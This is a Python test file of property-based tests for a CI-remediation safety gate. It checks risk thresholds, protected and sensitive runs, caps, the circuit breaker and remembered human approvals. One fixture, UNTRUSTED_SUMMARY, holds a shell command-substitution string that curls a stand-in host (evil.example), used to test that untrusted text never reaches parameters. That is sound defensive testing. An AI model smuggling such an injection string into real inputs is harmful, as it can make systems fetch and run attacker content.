"""Invariants of the safety gate over every combination of inputs hypothesis can find.

The pure gate (`policy.safety_gate`) is driven with generated analyses, policies, runs,
histories and memories; the gate step (`pipeline.gate`) with generated failures and analyses
on the real Postgres, where the caps are counted.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from ci_remediator.config import AppConfig, FileConfig, Settings, resolve_policy
from ci_remediator.db.models import (
    Analysis,
    ApprovalRequest,
    DetectionSource,
    Failure,
    GateDecision,
    Remediation,
    RemediationStatus,
)
from ci_remediator.domain import (
    ActionKind,
    Category,
    Decision,
    Effort,
    FailureState,
    Verdict,
)
from ci_remediator.pipeline.gate import count_auto_history, gate_failure
from ci_remediator.policy.catalog import CATALOG
from ci_remediator.policy.safety_gate import (
    MAX_RISK,
    PROTECTED_BRANCH_RISK,
    AutoHistory,
    GateInput,
    RememberedDecision,
    RunContext,
    effective_risk,
    evaluate_gate,
    never_remembered_reasons,
)
from tests.integration.conftest import (  # noqa: F401 - engine: the session-scoped fixture
    engine,
    rolled_back,
)
from tests.properties.profiles import examples

risks = st.integers(min_value=0, max_value=10)
STRICTNESS = {Verdict.AUTO: 0, Verdict.NEEDS_APPROVAL: 1, Verdict.BLOCKED: 2}
REPOSITORY = "acme/web"


def memories(decision: Decision | None = None) -> st.SearchStrategy[RememberedDecision]:
    return st.builds(
        RememberedDecision,
        memory_id=st.integers(1, 10**6),
        decision=st.just(decision) if decision else st.sampled_from(list(Decision)),
        decided_by=st.just("U012AB3CD"),
        expires_at=st.just(datetime(2026, 12, 9, tzinfo=UTC)),
        approved_risk=risks,
    )


@st.composite
def gate_inputs(draw: st.DrawFn) -> GateInput:
    policy = resolve_policy(
        FileConfig.model_validate(
            {
                "risk_threshold": draw(risks),
                "protected_repositories": [REPOSITORY] if draw(st.booleans()) else [],
                "protected_branches": ["main"] if draw(st.booleans()) else [],
                "max_auto_attempts_per_run": draw(st.integers(0, 3)),
                "max_auto_per_workflow_per_day": draw(st.integers(0, 6)),
            }
        ),
        REPOSITORY,
    )
    run = RunContext(
        workflow_name=draw(st.sampled_from(["CI", "Deploy prod", "Release", "lint"])),
        event=draw(st.sampled_from(["push", "pull_request", "pull_request_target", "schedule"])),
        head_branch=draw(st.sampled_from(["main", "feature/x", None])),
        from_fork=draw(st.booleans()),
        deployment_environments=draw(st.sampled_from([(), ("production",), ("staging", "qa")])),
        workflow_path=draw(st.sampled_from([None, ".github/workflows/ci.yml", "deploy.yml"])),
        job_names=draw(st.sampled_from([(), ("test",), ("test", "publish-npm")])),
        superseded_by_run_id=draw(st.none() | st.just(99)),
    )
    history = AutoHistory(
        on_this_run=draw(st.integers(0, 3)),
        on_this_workflow_today=draw(st.integers(0, 8)),
        organization_last_hour=draw(st.integers(0, 40)),
    )
    # No catalog action always asks today; the gate must honour one that does.
    action = replace(
        CATALOG[draw(st.sampled_from(list(ActionKind)))], always_needs_approval=draw(st.booleans())
    )
    return GateInput(
        model_risk=draw(risks),
        rules_risk=draw(risks),
        policy=policy,
        action=action,
        run=run,
        history=history,
        max_auto_per_hour=draw(st.integers(0, 35)),
        breaker_open=draw(st.booleans()),
        remembered=draw(st.none() | memories()),
    )


@given(gate_inputs())
def test_auto_only_when_every_condition_holds(gate_input: GateInput) -> None:
    """Property 21 (Safety Gate): an `auto` verdict is given only when every condition for
    it holds: not protected, an action, no untrusted or sensitive run, caps and breaker
    clear, risk within the threshold or a human's remembered approval."""
    decision = evaluate_gate(gate_input)
    if decision.verdict is Verdict.AUTO:
        assert not gate_input.policy.protected
        assert gate_input.action.kind is not ActionKind.NONE
        assert gate_input.run.event != "pull_request_target"
        assert not gate_input.run.from_fork
        assert not gate_input.breaker_open
        assert not gate_input.run.deployment_environments
        assert not gate_input.run.sensitive_names(gate_input.policy)
        memory = gate_input.remembered
        if decision.memory_id is None:
            assert not gate_input.action.always_needs_approval
        else:  # a human's remembered approval, and no riskier than what they saw
            assert memory is not None
            assert memory.memory_id == decision.memory_id
            assert memory.decision is Decision.APPROVE
            assert decision.effective_risk <= memory.approved_risk
        if decision.effective_risk > gate_input.policy.risk_threshold:
            assert decision.memory_id is not None
        history, policy = gate_input.history, gate_input.policy
        assert history.on_this_run < policy.max_auto_attempts_per_run
        assert history.on_this_workflow_today < policy.max_auto_per_workflow_per_day
        assert history.organization_last_hour < gate_input.max_auto_per_hour


@given(gate_inputs())
def test_effective_risk_never_below_rules_or_model_and_within_scale(gate_input: GateInput) -> None:
    """Property 20 (Safety Gate): the effective risk is an integer within 0..10 and never
    below the rules' or the model's risk."""
    risk = evaluate_gate(gate_input).effective_risk
    assert 0 <= risk <= 10
    assert risk >= min(10, max(gate_input.rules_risk, gate_input.model_risk))


@given(gate_inputs(), risks)
def test_a_higher_model_risk_never_loosens_the_verdict(gate_input: GateInput, extra: int) -> None:
    """Property 20 (Safety Gate): a higher model risk never lowers the effective risk nor
    loosens the verdict."""
    strictness = STRICTNESS
    before = evaluate_gate(gate_input).verdict
    raised = GateInput(
        **{**_fields(gate_input), "model_risk": min(10, gate_input.model_risk + extra)}
    )
    assert strictness[evaluate_gate(raised).verdict] >= strictness[before]
    assert effective_risk(raised) >= effective_risk(gate_input)


@given(gate_inputs())
def test_every_verdict_carries_a_reason(gate_input: GateInput) -> None:
    """Property 22 (Safety Gate): every verdict, whatever it is, carries at least one
    reason."""
    assert evaluate_gate(gate_input).reasons


def _fields(gate_input: GateInput) -> dict:
    return {name: getattr(gate_input, name) for name in GateInput.__dataclass_fields__}


@given(gate_inputs(), memories())
def test_no_memory_changes_the_verdict_on_a_protected_repository_or_a_sensitive_run(
    gate_input: GateInput, memory: RememberedDecision
) -> None:
    """Property 65 (Safety Gate): no remembered decision changes the verdict on a protected
    repository or a sensitive run."""
    if not never_remembered_reasons(gate_input):
        return
    forgotten = evaluate_gate(replace(gate_input, remembered=None))
    remembered = evaluate_gate(replace(gate_input, remembered=memory))
    assert remembered == forgotten
    assert remembered.memory_id is None


@given(gate_inputs(), memories(Decision.REJECT))
def test_a_remembered_rejection_only_ever_tightens(
    gate_input: GateInput, memory: RememberedDecision
) -> None:
    """Property 65 (Safety Gate): a remembered rejection never yields `auto` and never
    loosens the verdict."""
    forgotten = evaluate_gate(replace(gate_input, remembered=None))
    remembered = evaluate_gate(replace(gate_input, remembered=memory))
    assert remembered.verdict is not Verdict.AUTO
    assert STRICTNESS[remembered.verdict] >= STRICTNESS[forgotten.verdict]


@given(gate_inputs(), memories(Decision.APPROVE))
def test_a_remembered_approval_never_tightens_and_never_lifts_a_cap_or_the_breaker(
    gate_input: GateInput, memory: RememberedDecision
) -> None:
    """Property 65 (Safety Gate): a remembered approval never tightens the verdict and never
    lifts a cap or an open breaker."""
    forgotten = evaluate_gate(replace(gate_input, remembered=None))
    remembered = evaluate_gate(replace(gate_input, remembered=memory))
    assert STRICTNESS[remembered.verdict] <= STRICTNESS[forgotten.verdict]
    history, policy = gate_input.history, gate_input.policy
    limited = (
        gate_input.breaker_open
        or history.on_this_workflow_today >= policy.max_auto_per_workflow_per_day
        or history.organization_last_hour >= gate_input.max_auto_per_hour
    )
    if limited:
        assert remembered.verdict is forgotten.verdict


@st.composite
def rememberable_inputs(draw: st.DrawFn) -> GateInput:
    """Runs a memory may cover (not protected, nothing sensitive), the risk, the threshold and
    the caps drawn: the inputs where a memory decides something."""
    policy = resolve_policy(FileConfig.model_validate({"risk_threshold": draw(risks)}), "acme/web")
    return GateInput(
        model_risk=draw(risks),
        rules_risk=draw(risks),
        policy=policy,
        action=CATALOG[ActionKind.RERUN_FAILED_JOBS],
        run=RunContext(workflow_name="CI", event="push", head_branch="feature/x"),
        history=AutoHistory(
            on_this_workflow_today=draw(st.integers(0, 6)),
            organization_last_hour=draw(st.integers(0, 31)),
        ),
        breaker_open=draw(st.booleans()),
    )


@given(rememberable_inputs(), memories(Decision.APPROVE))
def test_a_remembered_approval_covers_no_riskier_repeat_than_the_human_saw(
    gate_input: GateInput, memory: RememberedDecision
) -> None:
    """Property 65 (Safety Gate): a remembered approval covers no repeat riskier than the
    risk the human approved."""
    assert not never_remembered_reasons(gate_input)
    forgotten = evaluate_gate(gate_input)
    remembered = evaluate_gate(replace(gate_input, remembered=memory))
    if remembered.memory_id is not None:
        assert remembered.verdict is Verdict.AUTO
        assert forgotten.verdict is Verdict.NEEDS_APPROVAL
        assert remembered.effective_risk <= memory.approved_risk
    if effective_risk(gate_input) > memory.approved_risk:
        assert remembered == forgotten


@given(rememberable_inputs(), memories(Decision.APPROVE))
def test_a_remembered_approval_stands_in_for_the_human_when_only_the_risk_asked(
    gate_input: GateInput, memory: RememberedDecision
) -> None:
    """Property 65 (Safety Gate): a remembered approval gives `auto` exactly when only the
    risk asked for a human and it is no riskier than approved."""
    forgotten = evaluate_gate(gate_input)
    remembered = evaluate_gate(replace(gate_input, remembered=memory))
    only_the_risk_asked = forgotten.verdict is Verdict.NEEDS_APPROVAL and all(
        reason.startswith("risk ") for reason in forgotten.reasons
    )
    if only_the_risk_asked and forgotten.effective_risk <= memory.approved_risk:
        assert remembered.verdict is Verdict.AUTO
        assert remembered.memory_id == memory.memory_id
    else:
        assert remembered.verdict is forgotten.verdict


def _always_asked(gate_input: GateInput, reason: str) -> GateInput:
    """`gate_input` made a run no memory may cover, for `reason`."""
    run = gate_input.run
    if reason == "protected":
        policy = resolve_policy(
            FileConfig.model_validate(
                {
                    "risk_threshold": gate_input.policy.risk_threshold,
                    "protected_repositories": ["acme/web"],
                }
            ),
            "acme/web",
        )
        return replace(gate_input, policy=policy)
    changed = {
        "sensitive": replace(run, workflow_name="Deploy prod"),
        "pull_request_target": replace(run, event="pull_request_target"),
        "fork": replace(run, from_fork=True),
        "deployment": replace(run, deployment_environments=("production",)),
    }[reason]
    return replace(gate_input, run=changed)


@given(
    rememberable_inputs(),
    memories(),
    st.sampled_from(["protected", "sensitive", "pull_request_target", "fork", "deployment"]),
)
def test_a_memory_never_applies_to_a_run_that_always_goes_to_a_human(
    gate_input: GateInput, memory: RememberedDecision, reason: str
) -> None:
    """Property 65 (Safety Gate): a memory never applies to a protected repository, a
    sensitive workflow, a pull_request_target or fork run, or a deployment: they always go
    to a human."""
    always = _always_asked(gate_input, reason)
    assert never_remembered_reasons(always)
    remembered = evaluate_gate(replace(always, remembered=memory))
    assert remembered == evaluate_gate(always)
    assert remembered.memory_id is None
    assert remembered.verdict is Verdict.NEEDS_APPROVAL


@given(gate_inputs())
def test_effective_risk_never_below_the_actions_floor(gate_input: GateInput) -> None:
    """Property 20 (Safety Gate): the effective risk is never below the chosen catalog
    action's floor."""
    assert evaluate_gate(gate_input).effective_risk >= min(10, gate_input.action.min_risk)


@given(gate_inputs(), st.integers(min_value=1, max_value=10))
def test_raising_the_threshold_never_turns_auto_into_asking(
    gate_input: GateInput, raise_by: int
) -> None:
    """Property 18 (Safety Gate): raising the configured risk threshold never tightens a
    verdict, and an `auto` stays `auto`."""
    policy = gate_input.policy
    looser = policy.model_copy(update={"risk_threshold": min(10, policy.risk_threshold + raise_by)})
    before = evaluate_gate(gate_input).verdict
    after = evaluate_gate(replace(gate_input, policy=looser)).verdict

    assert STRICTNESS[after] <= STRICTNESS[before]
    if before is Verdict.AUTO:
        assert after is Verdict.AUTO


# --------------------------------------------------------------- what each input forces ----

SENSITIVE_MATCH = "matches sensitive_workflows"


def blocking_fragments(gate_input: GateInput) -> list[str]:
    """What in the input must block any remediation, as the reason names it."""
    policy, run, history = gate_input.policy, gate_input.run, gate_input.history
    return [
        fragment
        for applies, fragment in (
            (gate_input.action.kind is ActionKind.NONE, "no safe remediation"),
            (run.superseded_by_run_id is not None, "superseded"),
            (history.on_this_run >= policy.max_auto_attempts_per_run, "already made on this run"),
        )
        if applies
    ]


def asking_fragments(gate_input: GateInput) -> list[str]:
    """What in the input must send the run to a human, as the reasons name it."""
    policy, run, history = gate_input.policy, gate_input.run, gate_input.history
    risk = effective_risk(gate_input)
    memory = gate_input.remembered
    covered = (
        memory is not None
        and memory.decision is Decision.APPROVE
        and not never_remembered_reasons(gate_input)
        and risk <= memory.approved_risk
    )
    return [
        fragment
        for applies, fragment in (
            (policy.protected, "repository is protected"),
            (bool(run.sensitive_names(policy)), SENSITIVE_MATCH),
            (run.event == "pull_request_target", "pull_request_target"),
            (run.from_fork, "fork"),
            (bool(run.deployment_environments), "deploys to"),
            (gate_input.action.always_needs_approval and not covered, "always needs approval"),
            (risk > policy.risk_threshold and not covered, "above the threshold"),
            (
                history.on_this_workflow_today >= policy.max_auto_per_workflow_per_day,
                "daily automatic remediation cap",
            ),
            (history.organization_last_hour >= gate_input.max_auto_per_hour, "hourly automatic"),
            (gate_input.breaker_open, "circuit breaker is open"),
        )
        if applies
    ]


def _named(fragment: str, reasons: tuple[str, ...]) -> bool:
    return any(fragment in reason for reason in reasons)


@given(gate_inputs())
def test_every_drawn_condition_that_forbids_auto_decides_the_verdict_and_is_named(
    gate_input: GateInput,
) -> None:
    """Property 22 (Safety Gate): a run that must not be remediated is blocked, one that must
    go to a human is asked with every reason named (a production environment, a sensitive job,
    workflow or file name, a fork, pull_request_target, a protected repository, each cap and
    the breaker), and only a run with none of them gets `auto`.

    Every input the strategy draws is one of those conditions, so each one is asserted on.
    """
    decision = evaluate_gate(gate_input)
    blockers, askers = blocking_fragments(gate_input), asking_fragments(gate_input)
    memory = gate_input.remembered
    remembered_rejection = (
        memory is not None
        and memory.decision is Decision.REJECT
        and not never_remembered_reasons(gate_input)
    )

    if blockers:
        assert decision.verdict is Verdict.BLOCKED
        assert any(_named(fragment, decision.reasons) for fragment in blockers)
    elif remembered_rejection:
        assert decision.verdict is Verdict.BLOCKED
        assert decision.memory_id == memory.memory_id
    elif askers:
        assert decision.verdict is Verdict.NEEDS_APPROVAL
        missing = [fragment for fragment in askers if not _named(fragment, decision.reasons)]
        assert not missing, (missing, decision.reasons)
    else:
        assert decision.verdict is Verdict.AUTO
    assert decision.reasons


@st.composite
def auto_inputs(draw: st.DrawFn) -> GateInput:
    """Inputs the gate lets through on their own: within the threshold, nothing sensitive,
    caps and breaker clear. Each test adds one condition and sees it decide."""
    threshold = draw(st.integers(1, 10))
    kind = draw(st.sampled_from([k for k in ActionKind if 0 < CATALOG[k].min_risk <= threshold]))
    policy = resolve_policy(
        FileConfig.model_validate(
            {
                "risk_threshold": threshold,
                "max_auto_attempts_per_run": draw(st.integers(1, 3)),
                "max_auto_per_workflow_per_day": draw(st.integers(1, 6)),
                "protected_branches": ["release/*"],
            }
        ),
        REPOSITORY,
    )
    gate_input = GateInput(
        model_risk=draw(st.integers(0, threshold)),
        rules_risk=draw(st.integers(0, threshold)),
        policy=policy,
        action=CATALOG[kind],
        run=RunContext(
            workflow_name=draw(st.sampled_from(["CI", "tests", "lint"])),
            event=draw(st.sampled_from(["push", "pull_request", "schedule"])),
            head_branch=draw(st.sampled_from(["main", "feature/x", None])),
            job_names=draw(st.sampled_from([(), ("test",), ("build", "unit")])),
            workflow_path=".github/workflows/ci.yml",
        ),
        history=AutoHistory(
            on_this_run=draw(st.integers(0, policy.max_auto_attempts_per_run - 1)),
            on_this_workflow_today=draw(st.integers(0, policy.max_auto_per_workflow_per_day - 1)),
            organization_last_hour=draw(st.integers(0, 4)),
        ),
        max_auto_per_hour=5,
    )
    assert evaluate_gate(gate_input).verdict is Verdict.AUTO
    return gate_input


def _with_condition(gate_input: GateInput, condition: str, name: str) -> GateInput:
    """`gate_input` with one condition added; `name` is a drawn sensitive name or env."""
    run, policy, history = gate_input.run, gate_input.policy, gate_input.history
    sensitive = f"{name} deploy"  # matches the default pattern *deploy*
    changed = {
        "protected repository": lambda: replace(
            gate_input, policy=policy.model_copy(update={"protected": True})
        ),
        "sensitive workflow": lambda: replace(
            gate_input, run=replace(run, workflow_name=sensitive)
        ),
        "sensitive job": lambda: replace(
            gate_input, run=replace(run, job_names=(*run.job_names, sensitive))
        ),
        "sensitive workflow file": lambda: replace(
            gate_input, run=replace(run, workflow_path=f".github/workflows/{name}-release.yml@v1")
        ),
        "pull_request_target": lambda: replace(
            gate_input, run=replace(run, event="pull_request_target")
        ),
        "fork": lambda: replace(gate_input, run=replace(run, from_fork=True)),
        "deployment environment": lambda: replace(
            gate_input, run=replace(run, deployment_environments=(name,))
        ),
        "run cap": lambda: replace(
            gate_input,
            history=replace(history, on_this_run=policy.max_auto_attempts_per_run),
        ),
        "daily cap": lambda: replace(
            gate_input,
            history=replace(history, on_this_workflow_today=policy.max_auto_per_workflow_per_day),
        ),
        "hourly cap": lambda: replace(
            gate_input,
            history=replace(history, organization_last_hour=gate_input.max_auto_per_hour),
        ),
        "breaker": lambda: replace(gate_input, breaker_open=True),
        "protected branch": lambda: replace(
            gate_input,
            # Just under the threshold: the branch's extra risk carries it over.
            model_risk=max(0, policy.risk_threshold - PROTECTED_BRANCH_RISK + 1),
            rules_risk=0,
            run=replace(run, head_branch=f"release/{name}"),
        ),
    }[condition]
    return changed()


CONDITIONS = (
    "protected repository",
    "sensitive workflow",
    "sensitive job",
    "sensitive workflow file",
    "pull_request_target",
    "fork",
    "deployment environment",
    "run cap",
    "daily cap",
    "hourly cap",
    "breaker",
    "protected branch",
)
names = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyz-0123456789"), min_size=1, max_size=12)


@given(auto_inputs(), st.sampled_from(CONDITIONS), names, st.none() | memories(Decision.APPROVE))
def test_each_condition_alone_turns_an_auto_verdict_into_a_human_or_a_block(
    gate_input: GateInput, condition: str, name: str, memory: RememberedDecision | None
) -> None:
    """Property 22 (Safety Gate): added alone to a run the gate would remediate, each of a
    production or any deployment environment, a sensitive workflow, job or workflow file name,
    a fork, pull_request_target, a protected repository or branch, each cap and the breaker
    forces a verdict other than `auto`, even with a remembered approval at hand (a protected
    branch by its extra risk, which only a threshold of 10 or a remembered approval of that
    risk absorbs)."""
    if condition == "protected branch":
        # The branch only adds risk: at a threshold of 10 nothing is above it, and a human's
        # remembered approval of that risk covers it (as it covers any risk it saw).
        assume(gate_input.policy.risk_threshold < MAX_RISK)
        memory = None
    changed = replace(_with_condition(gate_input, condition, name), remembered=memory)
    decision = evaluate_gate(changed)

    assert decision.verdict is not Verdict.AUTO, (condition, decision)
    if condition == "run cap":
        assert decision.verdict is Verdict.BLOCKED
    if condition == "protected branch":
        assert decision.effective_risk == min(
            10, effective_risk(replace(changed, run=gate_input.run)) + PROTECTED_BRANCH_RISK
        )


# ------------------------------------------------------------- threshold, classification ----


@given(
    risks,
    st.none() | risks,
    st.integers(0, 10),
    st.sampled_from([REPOSITORY, "acme/api"]),
    st.sampled_from([k for k in ActionKind if k is not ActionKind.NONE]),
)
def test_the_configured_threshold_of_the_repository_is_the_line_between_auto_and_asking(
    threshold: int, override: int | None, risk: int, repository: str, kind: ActionKind
) -> None:
    """Property 18 (Safety Gate): for a run nothing else holds back, the verdict is `auto`
    exactly when its effective risk is at most the repository's configured risk_threshold
    (its override when it has one, else config.json's)."""
    document: dict[str, Any] = {"risk_threshold": threshold}
    if override is not None:
        document["repository_configs"] = {REPOSITORY: {"risk_threshold": override}}
    policy = resolve_policy(FileConfig.model_validate(document), repository)
    decision = evaluate_gate(
        GateInput(
            model_risk=risk,
            rules_risk=0,
            policy=policy,
            action=CATALOG[kind],
            run=RunContext(workflow_name="CI", event="push", head_branch="feature/x"),
        )
    )
    line = override if override is not None and repository == REPOSITORY else threshold

    assert policy.risk_threshold == line
    assert decision.effective_risk == max(risk, CATALOG[kind].min_risk)
    assert (decision.verdict is Verdict.AUTO) == (decision.effective_risk <= line)


@given(gate_inputs())
def test_a_run_above_the_threshold_is_high_risk_and_never_auto_without_a_human(
    gate_input: GateInput,
) -> None:
    """Property 19 (Safety Gate): a run whose effective risk is above the threshold is
    classified high-risk (the reason says so) and never gets `auto` unless a human's remembered
    approval covers that risk; a run within it is never called high-risk."""
    decision = evaluate_gate(gate_input)
    risk, threshold = decision.effective_risk, gate_input.policy.risk_threshold
    memory = gate_input.remembered
    covered = (
        memory is not None
        and memory.decision is Decision.APPROVE
        and not never_remembered_reasons(gate_input)
        and risk <= memory.approved_risk
    )

    if risk <= threshold:
        assert not _named("above the threshold", decision.reasons)
    elif decision.verdict is Verdict.AUTO:
        assert covered
        assert memory is not None
        assert decision.memory_id == memory.memory_id
    elif decision.verdict is Verdict.NEEDS_APPROVAL and not covered:
        assert f"risk {risk} is above the threshold {threshold}" in decision.reasons


@given(
    st.integers(-50, 50),
    st.integers(-50, 50),
    st.sampled_from(list(ActionKind)),
    st.sampled_from(["main", "feature/x", None]),
)
def test_any_risk_scores_give_an_effective_risk_on_the_scale(
    model_risk: int, rules_risk: int, kind: ActionKind, branch: str | None
) -> None:
    """Property 20 (Safety Gate): whatever scores reach the gate, even outside 0..10, the
    effective risk is max(model, rules, the action's floor) plus the protected-branch bump,
    clamped to 0..10."""
    policy = resolve_policy(FileConfig.model_validate({"protected_branches": ["main"]}), REPOSITORY)
    gate_input = GateInput(
        model_risk=model_risk,
        rules_risk=rules_risk,
        policy=policy,
        action=CATALOG[kind],
        run=RunContext(workflow_name="CI", event="push", head_branch=branch),
    )
    bump = PROTECTED_BRANCH_RISK if branch == "main" else 0
    expected = min(10, max(model_risk, rules_risk, CATALOG[kind].min_risk) + bump)

    assert 0 <= evaluate_gate(gate_input).effective_risk == expected <= 10


# ------------------------------------------------------------------------------ caps ----


@given(
    st.integers(0, 4),
    st.integers(0, 6),
    st.integers(0, 8),
    st.builds(
        AutoHistory,
        on_this_run=st.integers(0, 6),
        on_this_workflow_today=st.integers(0, 8),
        organization_last_hour=st.integers(0, 10),
    ),
    st.none() | memories(Decision.APPROVE),
)
def test_no_count_at_its_cap_ever_gets_auto(
    per_run: int, per_day: int, per_hour: int, history: AutoHistory, memory: Any
) -> None:
    """Property 66 (Safety Gate): whatever the cap values (0 included) and the counts, a run
    at its per-run cap is blocked, a workflow at its daily cap or an organization at its hourly
    cap is asked, and `auto` needs every count below its cap, remembered approvals
    notwithstanding."""
    policy = resolve_policy(
        FileConfig.model_validate(
            {"max_auto_attempts_per_run": per_run, "max_auto_per_workflow_per_day": per_day}
        ),
        REPOSITORY,
    )
    decision = evaluate_gate(
        GateInput(
            model_risk=0,
            rules_risk=0,
            policy=policy,
            action=CATALOG[ActionKind.RERUN_FAILED_JOBS],
            run=RunContext(workflow_name="CI", event="push", head_branch="feature/x"),
            history=history,
            max_auto_per_hour=per_hour,
            remembered=memory,
        )
    )
    below = (
        history.on_this_run < per_run
        and history.on_this_workflow_today < per_day
        and history.organization_last_hour < per_hour
    )
    if history.on_this_run >= per_run:
        assert decision.verdict is Verdict.BLOCKED
    elif not below:
        assert decision.verdict is Verdict.NEEDS_APPROVAL
    if decision.verdict is Verdict.AUTO:
        assert below


# -------------------------------------------------------------- the gate step on Postgres ----

SETTINGS = Settings()
START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def add_failure(
    session: Session,
    *,
    repository: str = REPOSITORY,
    run_id: int = 1000,
    run_attempt: int = 1,
    workflow_id: int = 1,
    workflow_name: str = "CI",
    event: str = "push",
    head_branch: str | None = "feature/x",
    head_repository: str | None = None,
    environments: tuple[str, ...] = (),
    state: FailureState = FailureState.ANALYZED,
    at: datetime = START,
) -> Failure:
    failure = Failure(
        repository=repository,
        run_id=run_id,
        run_attempt=run_attempt,
        workflow_name=workflow_name,
        workflow_id=workflow_id,
        event=event,
        head_branch=head_branch,
        head_repository=head_repository,
        workflow_path=".github/workflows/ci.yml",
        deployment_environments=list(environments),
        head_sha="a" * 40,
        html_url=f"https://github.com/{repository}/actions/runs/{run_id}",
        run_created_at=at,
        detected_at=at,
        source=DetectionSource.POLL,
        state=state,
    )
    session.add(failure)
    session.flush()
    return failure


def add_analysis(
    session: Session,
    failure: Failure,
    *,
    category: Category = Category.INFRASTRUCTURE,
    proposed: ActionKind = ActionKind.RERUN_FAILED_JOBS,
    risk: int = 0,
    rules_risk: int = 0,
    failed_jobs: tuple[str, ...] = ("test",),
    summary: str = "A network blip.",
) -> Analysis:
    analysis = Analysis(
        failure_id=failure.id,
        category=category,
        risk_score=risk,
        rules_risk_score=rules_risk,
        confidence=0.9,
        flaky=True,
        summary=summary,
        root_cause=summary,
        proposed_action=proposed,
        analyzer="llm",
        affected_components=list(failed_jobs),
        effort=Effort.SMALL,
        excerpt=summary,
        failed_jobs=list(failed_jobs),
        fingerprint=None,
    )
    session.add(analysis)
    session.flush()
    return analysis


# Analysis text that looks like a template and a command: it must never reach a parameter.
UNTRUSTED_SUMMARY = "UNTRUSTED {branch} $(curl evil.example) main"
CACHE_TEMPLATES = ("deps-{branch}", "{repo}-{sha}", "cache-{run_id}-{run_attempt}", "static-key")
WORKFLOWS = (
    "heal.yml",
    {"workflow": "heal.yml", "ref": "main"},
    {"workflow": "repair.yaml", "ref": "{branch}", "inputs": {"run": "{run_id}", "who": "{owner}"}},
)


@dataclass(frozen=True)
class GateScenario:
    """One analyzed failure and the config.json it is gated under."""

    document: dict[str, Any]
    category: Category
    proposed: ActionKind
    risk: int
    rules_risk: int
    event: str
    head_branch: str | None
    from_fork: bool
    environments: tuple[str, ...]
    workflow_name: str
    failed_jobs: tuple[str, ...]

    @property
    def config(self) -> AppConfig:
        return AppConfig(settings=SETTINGS, file=FileConfig.model_validate(self.document))

    @property
    def never_auto(self) -> bool:
        """Protected, untrusted or sensitive by construction (the default patterns)."""
        policy = self.config.policy_for(REPOSITORY)
        names = (self.workflow_name, *self.failed_jobs)
        return (
            policy.protected
            or self.from_fork
            or self.event == "pull_request_target"
            or bool(self.environments)
            or any(policy.is_sensitive_workflow(name) for name in names)
        )

    def add_to(self, session: Session) -> Failure:
        failure = add_failure(
            session,
            event=self.event,
            head_branch=self.head_branch,
            head_repository="someone/web" if self.from_fork else None,
            environments=self.environments,
            workflow_name=self.workflow_name,
        )
        add_analysis(
            session,
            failure,
            category=self.category,
            proposed=self.proposed,
            risk=self.risk,
            rules_risk=self.rules_risk,
            failed_jobs=self.failed_jobs,
            summary=UNTRUSTED_SUMMARY,
        )
        return failure


@st.composite
def gate_scenarios(draw: st.DrawFn) -> GateScenario:
    document: dict[str, Any] = {
        "risk_threshold": draw(risks),
        "protected_repositories": [REPOSITORY] if draw(st.booleans()) else [],
        "protected_branches": draw(st.sampled_from([[], ["main"], ["release/*"]])),
        "category_actions": draw(
            st.dictionaries(
                st.sampled_from(list(Category)),
                st.lists(st.sampled_from(list(ActionKind)), max_size=4, unique=True),
                max_size=5,
            )
        ),
    }
    if draw(st.booleans()):
        document["cache_key_templates"] = draw(
            st.lists(st.sampled_from(CACHE_TEMPLATES), min_size=1, max_size=3, unique=True)
        )
    if draw(st.booleans()):
        document["remediation_workflows"] = [draw(st.sampled_from(WORKFLOWS))]
    rules_risk = draw(risks)
    category = draw(st.sampled_from(list(Category)))
    proposed = draw(st.sampled_from(list(ActionKind)))
    if draw(st.booleans()):
        # Often the configuration allows what was proposed: the parameters then decide.
        document["category_actions"][category] = [proposed]
    return GateScenario(
        document=document,
        category=category,
        proposed=proposed,
        # The analyzer never stores a model risk below the rules' (llm.client.merge); the gate
        # must hold that line anyway, so both are drawn freely.
        risk=draw(risks),
        rules_risk=rules_risk,
        event=draw(st.sampled_from(["push", "pull_request", "pull_request_target", "schedule"])),
        head_branch=draw(st.sampled_from(["main", "feature/x", "release/1.2", None])),
        from_fork=draw(st.booleans()),
        environments=draw(st.sampled_from([(), ("production",), ("staging",)])),
        workflow_name=draw(st.sampled_from(["CI", "Deploy prod", "tests"])),
        failed_jobs=draw(st.sampled_from([("test",), ("test", "publish-npm"), ("lint",)])),
    )


@dataclass(frozen=True)
class Gated:
    """What the gate step left in the database for one failure."""

    decision: GateDecision
    state: FailureState
    remediations: list[Remediation]
    approvals: list[ApprovalRequest]


def gate_on_postgres(session: Session, scenario: GateScenario) -> Gated:
    failure = scenario.add_to(session)
    gate_failure(session, failure_id=failure.id, config=scenario.config)
    session.expire_all()  # read back what Postgres holds, not the objects in memory
    decision = session.scalar(select(GateDecision).where(GateDecision.failure_id == failure.id))
    assert decision is not None
    return Gated(
        decision=decision,
        state=session.get_one(Failure, failure.id).state,
        remediations=list(
            session.scalars(select(Remediation).where(Remediation.failure_id == failure.id))
        ),
        approvals=list(
            session.scalars(select(ApprovalRequest).where(ApprovalRequest.failure_id == failure.id))
        ),
    )


@settings(max_examples=examples(40))
@given(gate_scenarios())
def test_the_gate_step_sends_every_verdict_where_it_belongs_with_its_reasons(
    engine: Engine,  # noqa: F811 - the fixture imported above
    scenario: GateScenario,
) -> None:
    """Property 22 (Safety Gate): on Postgres, a failure the gate does not pass is either
    awaiting a human (a pending approval request for the chosen action) or escalated when
    blocked, never executing, and its reasons are stored; only `auto` opens an automatic
    remediation; a protected, forked, pull_request_target, deploying or sensitive run never
    gets `auto`."""
    with rolled_back(engine) as session:
        gated = gate_on_postgres(session, scenario)

    decision = gated.decision
    assert decision.reasons
    if decision.verdict is Verdict.AUTO:
        assert not scenario.never_auto
        assert gated.state is FailureState.EXECUTING
        (remediation,) = gated.remediations
        assert remediation.approved_by is None
        assert remediation.action is decision.action is not ActionKind.NONE
        assert gated.approvals == []
    elif decision.verdict is Verdict.NEEDS_APPROVAL:
        assert gated.state is FailureState.AWAITING_APPROVAL
        (approval,) = gated.approvals
        assert approval.action is decision.action
        timeout = scenario.config.policy_for(REPOSITORY).approval_timeout_hours
        assert approval.expires_at - approval.requested_at == timedelta(hours=timeout)
        assert gated.remediations == []
    else:
        assert gated.state is FailureState.ESCALATED
        assert gated.remediations == []
        assert gated.approvals == []


